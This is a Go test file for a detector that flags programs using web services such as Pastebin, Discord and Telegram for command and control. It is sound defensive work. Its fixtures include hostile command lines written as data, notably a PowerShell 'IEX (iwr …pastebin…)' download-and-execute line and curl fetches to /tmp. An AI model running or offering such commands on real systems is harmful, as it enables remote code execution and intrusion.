package webuse_test

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/vegress/vegress/analytics/webuse"
	"github.com/vegress/vegress/event"
)

var start = time.Date(2026, 3, 4, 14, 0, 0, 0, time.UTC)

var catalogue = map[string][2]string{
	"pastebin.com": {"Pastebin", "paste"}, "graph.microsoft.com": {"Microsoft Graph", "cloud_storage"},
	"raw.githubusercontent.com": {"GitHub", "code_hosting"}, "discord.com": {"Discord", "messaging"},
	"api.telegram.org": {"Telegram", "messaging"}, "d1.cloudfront.net": {"CloudFront", "cdn"},
}

func site() webuse.Site {
	return webuse.Site{
		Service: func(host string) (string, string) { s := catalogue[host]; return s[0], s[1] },
		Risky:   func(category string) bool { return category == "paste" || category == "messaging" },
	}
}

// use is a connection of a process to a host.
func use(path, line, parent, host string) event.Event {
	s := catalogue[host]
	return event.Event{
		Class: event.NetworkActivity, Activity: event.NetworkOpen, Time: start, UID: "u1", Direction: event.DirectionOutbound,
		Device:  event.Device{Hostname: "WS17"},
		Src:     event.Endpoint{IP: netip.MustParseAddr("10.0.0.7"), Port: 51000},
		Dst:     event.Endpoint{IP: netip.MustParseAddr("203.0.113.9"), Port: 443, Hostname: host, Service: s[0], Category: s[1]},
		Process: event.Process{Path: path, CmdLine: line, PID: 4711, Parent: &event.Process{Path: parent}},
		User:    event.User{Name: "jdoe", Domain: "LAB"},
	}
}

func asks(path, host string) event.Event {
	ev := use(path, "", "", host)
	ev.Class, ev.Dst, ev.DNS.Query = event.DNSActivity, event.Endpoint{}, host
	return ev
}

func usual() webuse.Habit { return webuse.Habit{} }

func detect(p *webuse.Policy, evs ...event.Event) []*event.Finding {
	return detectWith(p, usual, evs...)
}

func detectWith(p *webuse.Policy, habit func() webuse.Habit, evs ...event.Event) (found []*event.Finding) {
	d := webuse.New(p, habit)
	for i := range evs {
		d.Detect(&evs[i], func(f *event.Finding) { found = append(found, f) })
	}
	d.Flush(func(f *event.Finding) { found = append(found, f) })
	return found
}

const (
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	chrome     = `C:\Program Files\Google\Chrome\Application\chrome.exe`
	explorer   = `C:\Windows\explorer.exe`
)

// TestValidation: the five validation tests of DET0425, and what a person does
// with the same services.
func TestValidation(t *testing.T) {
	p := webuse.Compile(webuse.Options{}, site())
	for name, c := range map[string]struct {
		ev       event.Event
		analytic string
		severity event.Severity
	}{
		"Pastebin dead drop": {use(powershell, "powershell -nop IEX (iwr https://pastebin.com/raw/x)", explorer, "pastebin.com"), "endpoint.windows", event.SeverityHigh},
		"OneDrive by Graph":  {use(powershell, "powershell -file sync.ps1", explorer, "graph.microsoft.com"), "endpoint.windows", event.SeverityMedium},
		"curl on Linux":      {use("/usr/bin/curl", "curl -s https://raw.githubusercontent.com/a/b -o /tmp/b", "/bin/bash", "raw.githubusercontent.com"), "endpoint.linux", event.SeverityMedium},
		"curl on macOS":      {onMac(use("/usr/bin/curl", "curl https://raw.githubusercontent.com/a/b", "/bin/zsh", "raw.githubusercontent.com")), "endpoint.macos", event.SeverityMedium},
		"curl by osquery":    {saying("platform", "darwin", use("/usr/bin/curl", "", "/bin/zsh", "raw.githubusercontent.com")), "endpoint.macos", event.SeverityMedium},
		"Discord web hook":   {use(powershell, "powershell Invoke-RestMethod", explorer, "discord.com"), "endpoint.windows", event.SeverityHigh},
		"curl by auditd":     {unnamed(use("/usr/bin/curl", "curl -s https://a:b@raw.githubusercontent.com:443/a/b -o /tmp/b", "/bin/bash", "")), "endpoint.linux", event.SeverityMedium},
		"Telegram bot":       {use(`C:\Python312\python.exe`, "python bot.py", explorer, "api.telegram.org"), "endpoint.windows", event.SeverityMedium},
	} {
		found := detect(p, c.ev)
		if len(found) != 1 || found[0].Analytic.UID != c.analytic || found[0].Severity != c.severity {
			t.Errorf("%s: %d findings, %+v", name, len(found), found)
			continue
		}
		if f := found[0]; f.Analytic.Attacks[0].TechniqueUID != "T1102" || f.Risk < 50 || len(f.Explanation) < 4 {
			t.Errorf("%s: %+v", name, f)
		}
	}
	justified := use("/usr/bin/curl", "curl -s https://raw.githubusercontent.com/a/b -o /tmp/b", "/bin/bash", "raw.githubusercontent.com")
	justified.Justification.Verdict = event.VerdictJustified
	for name, ev := range map[string]event.Event{
		"browser":      use(chrome, "", explorer, "pastebin.com"),
		"sync client":  use(`C:\Program Files\Microsoft OneDrive\OneDrive.exe`, "/background", explorer, "graph.microsoft.com"),
		"CI runner":    justified,
		"git":          use("/usr/bin/git", "git clone", "/bin/bash", "raw.githubusercontent.com"),
		"Discord":      use(`C:\Users\jdoe\AppData\Local\Discord\app-1.0\Discord.exe`, "", explorer, "discord.com"),
		"Telegram":     use("/Applications/Telegram.app/Contents/MacOS/Telegram", "", "/sbin/launchd", "api.telegram.org"),
		"a product":    use(`C:\Program Files\Monitor\alert.exe`, "", `C:\Windows\System32\services.exe`, "api.telegram.org"),
		"pip":          use("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/pip3 install x", "/bin/bash", "raw.githubusercontent.com"),
		"python -m":    use("/usr/bin/python3.11", "python3 -m pip install x", "/bin/bash", "raw.githubusercontent.com"),
		"npm":          use("/usr/bin/node", "node /usr/lib/node_modules/npm/bin/npm-cli.js install", "/bin/bash", "raw.githubusercontent.com"),
		"own worker":   use("/usr/sbin/php-fpm8.2", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "api.telegram.org"),
		"its database": unjudged(unnamed(use("/usr/bin/java", "java -jar app.jar --alerts=https://discord.com/api/webhooks/1", "/sbin/init", ""))),
		"two hosts":    unnamed(use("/usr/bin/curl", "curl https://pastebin.com/x https://www.example.com", "/bin/bash", "")),
		"no URL":       unnamed(use("/usr/bin/curl", "curl pastebin.com", "/bin/bash", "")),
		"no service":   use(powershell, "", explorer, "www.example.com"),
		"a CDN":        use("/usr/bin/curl", "", "/bin/bash", "d1.cloudfront.net"),
		"the resolver": asks(chrome, "pastebin.com"),
	} {
		if found := detect(p, ev); len(found) != 0 {
			t.Errorf("%s: %s: %q", name, found[0].Title, found[0].Explanation)
		}
	}
}

func saying(field, value string, ev event.Event) event.Event {
	ev.Fields = append(ev.Fields, event.Field{ID: event.Intern(field), Value: value})
	return ev
}

// unnamed is a connection of which only the address is known.
func unnamed(ev event.Event) event.Event {
	ev.Dst.Hostname, ev.Dst.Service, ev.Dst.Category = "", "", ""
	ev.Justification.Verdict = event.VerdictUnjustified
	return ev
}

// unjudged is one that does not leave the estate.
func unjudged(ev event.Event) event.Event {
	ev.Justification.Verdict = event.VerdictNone
	return ev
}

func onMac(ev event.Event) event.Event {
	ev.LogName = "eslogger"
	return ev
}

// TestFacts: each adds what the explanation says, and a browser that is none
// is no browser.
func TestFacts(t *testing.T) {
	all := webuse.Options{
		ProcessName: []string{"Agent.exe"}, ParentProcess: []string{"cron"}, HostnamePattern: []string{"*.dead.example"},
		ProcessSignature: []string{"unsigned", "modified"},
	}
	signed := func(ev event.Event, s string) event.Event { return saying("process_signature", s, ev) }
	agent := `C:\Program Files\A\agent.exe`
	for name, c := range map[string]struct {
		ev     event.Event
		habits webuse.Habit
		says   string // empty: no finding
	}{
		"listed":             {use(agent, "", explorer, "graph.microsoft.com"), webuse.Habit{}, "one of analytics.an1189.ProcessName (+35)"},
		"not listed":         {use(`C:\Program Files\A\other.exe`, "", explorer, "graph.microsoft.com"), webuse.Habit{}, ""},
		"child of Office":    {use(`C:\a\updater.exe`, "", `C:\Program Files\Office\WINWORD.EXE`, "pastebin.com"), webuse.Habit{}, "started by WINWORD.EXE, which opens"},
		"child of cron":      {use("/opt/a/sync", "", "/usr/sbin/cron", "api.telegram.org"), webuse.Habit{}, "one of analytics.an1190.ParentProcess (+25)"},
		"site's own host":    {use("/usr/bin/python3.11", "", "/bin/sh", "x.dead.example"), webuse.Habit{}, "HostnamePattern (+20)"},
		"unsigned":           {signed(use("/opt/x/helperd", "", "/sbin/launchd", "pastebin.com"), "unsigned"), webuse.Habit{}, "not signed (ProcessSignature) (+20)"},
		"modified":           {signed(use("/opt/x/helperd", "", "/sbin/launchd", "graph.microsoft.com"), "ad_hoc"), webuse.Habit{}, "known developer"},
		"signed":             {signed(use("/opt/x/helperd", "", "/sbin/launchd", "pastebin.com"), "signed"), webuse.Habit{}, ""},
		"chrome in temp":     {use(`C:\Users\j\AppData\Local\Temp\chrome.exe`, "", explorer, "pastebin.com"), webuse.Habit{}, "where any account may write"},
		"a hidden folder":    {use("/home/j/.cache/x/upd", "", "/bin/sh", "pastebin.com"), webuse.Habit{}, "where any account may write"},
		"a beacon":           {use("/opt/x/helperd", "", "/sbin/init", "pastebin.com"), webuse.Habit{Beacon: true}, "as regularly as a clock (ConnectionInterval) (+25)"},
		"a browser's beacon": {use(chrome, "", explorer, "pastebin.com"), webuse.Habit{Beacon: true, OffHours: true}, ""},
		"much, often, late":  {use("/opt/x/helperd", "", "/sbin/init", "graph.microsoft.com"), webuse.Habit{Volume: true, Frequent: true, OffHours: true}, "DataTransferThreshold"},
	} {
		found := detectWith(webuse.Compile(all, site()), func() webuse.Habit { return c.habits }, c.ev)
		switch {
		case c.says == "" && len(found) > 0:
			t.Errorf("%s: %q", name, found[0].Explanation)
		case c.says != "" && (len(found) != 1 || !strings.Contains(strings.Join(found[0].Explanation, "\n"), c.says)):
			t.Errorf("%s: %+v", name, found)
		}
	}
}

// TestOneFinding: a query and the connections after it, of one program at one
// service, are one.
func TestOneFinding(t *testing.T) {
	p := webuse.Compile(webuse.Options{}, site())
	ask, connect := asks(powershell, "pastebin.com"), use(powershell, "powershell x", explorer, "pastebin.com")
	connect.UID, connect.Time = "u2", start.Add(2*time.Minute)
	found := detect(p, ask, connect)
	if len(found) != 2 || found[0].UID != found[1].UID || found[1].Count != 2 {
		t.Fatalf("%+v", found)
	}
	if found[0].Title != "powershell.exe on WS17 asked for the address of Pastebin (pastebin.com)" {
		t.Error(found[0].Title)
	}
	if found[1].Title != "powershell.exe on WS17 talked to Pastebin (pastebin.com)" {
		t.Error(found[1].Title)
	}
	if f := found[1]; f.Entity != "addr:10.0.0.7" || f.Key != "Pastebin by powershell" {
		t.Errorf("%s, %s", f.Entity, f.Key)
	}
}

// TestOthers: what a host, vCenter or a sensor without processes tells is not
// this room's.
func TestOthers(t *testing.T) {
	p := webuse.Compile(webuse.Options{}, site())
	hosts, none, in := use(powershell, "", "", "pastebin.com"), use("", "", "", "pastebin.com"), use(powershell, "", "", "pastebin.com")
	hosts.Device.Host = &event.Host{}
	in.Direction = event.DirectionInbound
	for _, ev := range []event.Event{hosts, none, in} {
		if found := detect(p, ev); len(found) != 0 {
			t.Errorf("%+v", found[0])
		}
	}
}

func TestValidate(t *testing.T) {
	for _, o := range []webuse.Options{
		{HostnamePattern: []string{"*"}},
		{HostnamePattern: []string{"["}},
		{ProcessSignature: []string{"expired"}},
	} {
		if o.Validate() == nil {
			t.Errorf("%+v", o)
		}
	}
	o := webuse.Options{ProcessName: []string{"a.exe"}, HostnamePattern: []string{"*.x.example"}, ProcessSignature: []string{"unsigned", "modified"}}
	if err := o.Validate(); err != nil {
		t.Error(err)
	}
}

func BenchmarkDetect(b *testing.B) {
	p := webuse.Compile(webuse.Options{}, site())
	for name, ev := range map[string]event.Event{
		"no service": use(powershell, "", explorer, "www.example.com"), "browser": use(chrome, "", explorer, "pastebin.com"),
		"finding": use(powershell, "powershell x", explorer, "pastebin.com"), "no process": use("", "", "", "pastebin.com"),
	} {
		b.Run(name, func(b *testing.B) {
			d := webuse.New(p, usual)
			b.ReportAllocs()
			for b.Loop() {
				d.Detect(&ev, func(*event.Finding) {})
			}
		})
	}
}
